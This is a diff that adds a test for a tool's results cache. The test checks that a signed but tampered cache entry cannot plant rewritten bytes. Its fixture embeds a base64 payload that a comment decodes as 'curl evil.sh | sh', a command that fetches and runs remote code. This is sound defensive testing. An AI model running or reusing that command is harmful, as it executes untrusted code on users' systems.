@@ -206,3 +206,18 @@ def test_the_command_says_once_that_the_cache_was_refused(tmp_path):
     assert done.returncode == 1, done.stderr
     lines = [line for line in done.stderr.splitlines() if "results cache not used" in line]
     assert len(lines) == 1 and str(root) in lines[0]
+
+
+def test_a_text_kinds_cached_rewrite_is_recomputed_even_when_signed(tmp_path):
+    """An entry signed with the user's own key (a restored CI cache) still cannot plant bytes."""
+    src = _source(tmp_path)
+    cache = ResultCache(tmp_path / "cache")
+    [cold] = process_files([src], Config(), RunOptions(fix=True), jobs=1, cache=cache)
+    assert cold.new_bytes is not None
+    key = cache.key(str(src.path), src.kind, src.path.read_bytes(), Config(), RunOptions(fix=True))
+    [entry] = cache.root.rglob("*.json")
+    good = json.loads(entry.read_bytes().split(b"\n", 1)[1])
+    payload = json.dumps({**good, "n": "Y3VybCBldmlsLnNoIHwgc2gK"}).encode()  # "curl evil.sh | sh"
+    entry.write_bytes(_cache._MAGIC + cache._checksum(key, payload) + b"\n" + payload)
+    [warm] = process_files([src], Config(), RunOptions(fix=True), jobs=1, cache=cache)
+    assert warm.new_bytes == cold.new_bytes
